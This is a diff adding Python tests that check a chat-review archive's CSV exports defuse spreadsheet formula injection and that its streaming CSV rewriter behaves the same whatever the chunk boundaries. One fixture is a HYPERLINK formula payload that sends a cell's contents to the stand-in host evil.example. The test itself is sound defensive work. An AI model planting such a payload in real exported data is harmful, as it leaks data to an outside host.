@@ -294,6 +294,43 @@ async def test_a_csv_export_downloads_as_a_file_chinese_excel_reads(ds):
     assert response.content.startswith("\ufeff".encode()) and "群,单位,问题" in response.content.decode("utf-8-sig")
 
 
+async def test_csv_exports_hand_excel_no_formulas(ds, query, db_path):
+    # A note or a chat message that starts like a formula would run in the auditor's Excel.
+    import csv
+    import io
+
+    flag_id = first_flag(query)
+    link = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    assert (await decide(ds, flag_id, "u-supervisor", status="confirmed", action="other", note=link)).status_code == 302
+    texts = {2: "@所有人 收到", 3: "+1", 4: "-这是减号开头", 5: "\t=1+1", 6: "-5"}
+    with sqlite3.connect(db_path) as con:
+        con.executemany("update messages set text = ? where id = ?", [(t, i) for i, t in texts.items()])
+    cookies = cookies_for(ds, "u-auditor")
+
+    def table(response):
+        assert response.status_code == 200 and response.content.startswith("\ufeff".encode())
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+        return [dict(zip(rows[0], row)) for row in rows[1:]]
+
+    trail = table(await ds.client.get("/archive/handling.csv", cookies=cookies))
+    assert [row["note"] for row in trail] == ["'" + link]
+    chat = table(await ds.client.get("/archive/messages.csv?_stream=on&_size=2", cookies=cookies))
+    shown = {int(row["id"]): row["text"] for row in chat}
+    assert {i: shown[i] for i in texts} == {2: "'@所有人 收到", 3: "'+1", 4: "'-这是减号开头", 5: "'\t=1+1", 6: "-5"}
+    assert shown[1] == query("select text from messages where id = 1")[0]["text"]  # the rest as they are
+
+
+def test_a_csv_rewritten_piece_by_piece_is_the_csv_rewritten_whole():
+    from review.csv_excel import ExcelCells
+
+    body = 'id,text\r\n1,"第一行\r\n=第二行, ""引号"""\r\n2,@所有人\r\n'.encode()
+    whole = ExcelCells().feed(body, last=True)
+    assert whole.decode("utf-8-sig") == 'id,text\r\n1,"第一行\r\n=第二行, ""引号"""\r\n2,\'@所有人\r\n'
+    for cut in range(1, len(body)):
+        cells = ExcelCells()
+        assert cells.feed(body[:cut], last=False) + cells.feed(body[cut:], last=True) == whole
+
+
 def test_the_weekly_chart_tells_every_category_apart():
     from review.charts import weekly_svg
 
